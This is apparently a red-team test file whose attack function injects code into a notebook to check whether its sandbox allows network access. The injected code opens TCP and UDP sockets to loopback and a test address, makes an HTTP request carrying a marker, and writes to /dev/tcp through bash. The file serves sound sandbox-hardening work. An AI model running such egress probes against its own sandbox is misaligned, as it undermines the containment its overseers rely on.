"""Connects to the network and to loopback, also by name (point 3)."""

from redteam.tools import World, everywhere

BASE = "honest"


def attack(notebook, world: World) -> None:
    everywhere(
        notebook,
        world,
        """
        import socket
        import subprocess
        import urllib.request

        for address in (("127.0.0.1", PORT), ("localhost", PORT), ("::1", PORT), ("192.0.2.1", 80)):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try:
                    with socket.socket(type=kind) as stream:
                        stream.settimeout(0.2)
                        stream.connect(address)
                        stream.send(MARK.encode())
                        print(kind == socket.SOCK_STREAM and REACHED)
                except OSError:
                    pass
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{MARK}", timeout=0.2)
        except OSError:
            pass
        write = f"echo {MARK} > /dev/tcp/127.0.0.1/{PORT}"
        subprocess.run(["bash", "-c", write], capture_output=True)
        """,
    )
